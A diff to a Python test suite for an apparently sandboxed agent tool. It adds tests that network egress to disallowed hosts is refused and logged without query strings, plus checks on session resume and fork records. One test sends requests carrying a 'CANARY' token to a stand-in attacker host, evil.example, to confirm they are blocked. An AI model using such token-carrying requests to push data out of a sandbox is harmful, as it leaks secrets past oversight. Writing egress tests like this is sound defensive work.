@@ -143,6 +143,23 @@ def test_a_tool_that_the_wire_refuses_is_named_in_the_record(box: Box) -> None:
     assert {(r["name"], r["complete"]) for r in asked} == {("WebFetch", False)}
 
 
+def test_each_refusal_is_in_the_record_by_its_name_and_without_its_query(box: Box) -> None:
+    """By the standard library's client, which asks by HTTP/1.0 before Python 3.12."""
+    hosts = ["api.anthropic.com", "unresolvable.example.com"]
+    box.policy({"preset": "strict", "network": {"allowed_hosts": hosts}})
+    ask = "import sys, urllib.request as u\nfor url in sys.argv[1:]:\n try: u.urlopen(url)\n except Exception as e: print(e)"
+    (box.workspace / "ask.py").write_text(ask)
+    urls = "'http://evil.example/a?CANARY' https://evil.example/b?CANARY https://unresolvable.example.com/c?CANARY"
+    done = box.execute(f"python3 ask.py {urls}")
+    assert done.code == 0, done.err
+    refused = [r for r in box.records() if r["type"] == "egress.refused"]
+    assert [(r["target"], r["reason"]) for r in refused] == [
+        ("http://evil.example/a", "plain-http"),
+        ("evil.example:443", "host-not-allowed"),
+        ("unresolvable.example.com:443", "name-not-resolved"),
+    ]
+
+
 def test_a_call_that_never_ended_has_an_end_in_the_record(box: Box) -> None:
     box.run(script(bash("tail -f /dev/null")), "--timeout", "20")
     (finished,) = [r for r in box.records() if r["type"] == "tool.finished"]
@@ -164,6 +181,12 @@ def test_resume_from_another_directory(box: Box, simulator: Simulator) -> None:
     forked = box.run(script({"text": "third"}), "--resume", first.json["session_id"], "--fork")
     assert forked.code == 0, forked.err + forked.out
     assert forked.json["session_id"] != first.json["session_id"]
+    assert "remembered" in json.dumps(simulator.requests[-1].body["messages"])
+    changes = [r for r in box.records() if r["type"] == "session.changed"]
+    assert [r["action"] for r in changes[-2:]] == ["resumed", "forked"]
+    assert changes[-1]["parent"] == first.json["session_id"]
+    alone = box.run("hi", "--fork")
+    assert (alone.code, alone.json["error"]["code"]) == (2, "usage")
 
 
 def test_resuming_never_widens_the_policy(box: Box) -> None:
